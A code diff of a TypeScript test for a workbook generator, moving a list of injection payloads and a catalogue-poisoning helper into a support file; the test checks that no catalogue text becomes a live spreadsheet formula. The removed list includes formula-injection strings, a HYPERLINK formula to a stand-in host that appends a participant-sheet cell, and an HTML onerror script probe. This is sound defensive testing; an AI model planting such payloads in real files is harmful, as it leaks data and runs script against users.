@@ -1,6 +1,5 @@
 import { asCellText, asInertLine, onOneLine, withoutMark } from "../../src/base/inert";
-import { languageKeys } from "../../src/base/languages";
-import { CatalogueError, parseCatalogue, readCatalogue, type Catalogue } from "../../src/catalogue/catalogue";
+import { CatalogueError, parseCatalogue, readCatalogue } from "../../src/catalogue/catalogue";
 import { task23 } from "../../src/catalogue/task23";
 import { assess } from "../../src/coverage/assess";
 import { briefsOf } from "../../src/coverage/brief";
@@ -10,51 +9,15 @@ import { documentAsHtml, documentAsText } from "../../src/handout/document";
 import { raciDocument } from "../../src/handout/raci";
 import "../../src/text/allLanguages";
 import { openExcel, TODAY } from "../support/excel";
+import { payloads, poisoned } from "../support/payloads";
 import { area, organisation, person, row } from "../support/organisation";
-
-/** Texts that a cell, a page or a calendar would take for something else. */
-const payloads = [
-  "=1+1",
-  '=HYPERLINK("http://x.example/"&Deltagere!A8,"Klik")',
-  "+1",
-  "-2-3",
-  "@SUM(A1)",
-  "＝1+1",
-  "＋1",
-  "\n=2+3",
-  "\t=2+3",
-  " =2+3",
-  "'=1+1",
-  "SAND",
-  "true",
-  "7.2",
-  "1-2",
-  "marts 2027",
-  "1. maj",
-  '<img src=x onerror="alert(1)">',
-];
-
-/** The task's catalogue with every text another payload. */
-function poisoned(): Catalogue {
-  let next = 0;
-  const poison = (value: unknown): unknown => {
-    if (Array.isArray(value)) return value.map(poison);
-    if (typeof value !== "object" || value === null) return value;
-    const entries = Object.entries(value);
-    const isText = languageKeys.every((language) => typeof (value as Record<string, unknown>)[language] === "string");
-    const payload = payloads[next % payloads.length] ?? "";
-    if (isText) next += 1;
-    return Object.fromEntries(entries.map(([key, inner]) => [key, isText ? payload : poison(inner)]));
-  };
-  return parseCatalogue(poison(task23));
-}
 
 test("no text of a catalogue becomes a formula, a number or a truth in any cell of the workbook", async () => {
   const excel = await openExcel();
   await createWorkbook(task23, "da", { municipality: "x", projectStart: TODAY, goLive: null });
   const ours = new Set(excel.book.sheets.flatMap(({ cells }) => [...cells.values()].map(({ formula }) => formula)));
   const poison = await openExcel();
-  await createWorkbook(poisoned(), "da", { municipality: "=1+1", projectStart: TODAY, goLive: null });
+  await createWorkbook(poisoned(payloads), "da", { municipality: "=1+1", projectStart: TODAY, goLive: null });
   const cells = poison.book.sheets.flatMap(({ name, cells: own }) => [...own.values()].map((content) => ({ name, ...content })));
   const foreign = cells.filter(
     ({ formula }) => formula !== null && !ours.has(formula) && payloads.some((text) => formula.includes(text.trim())),
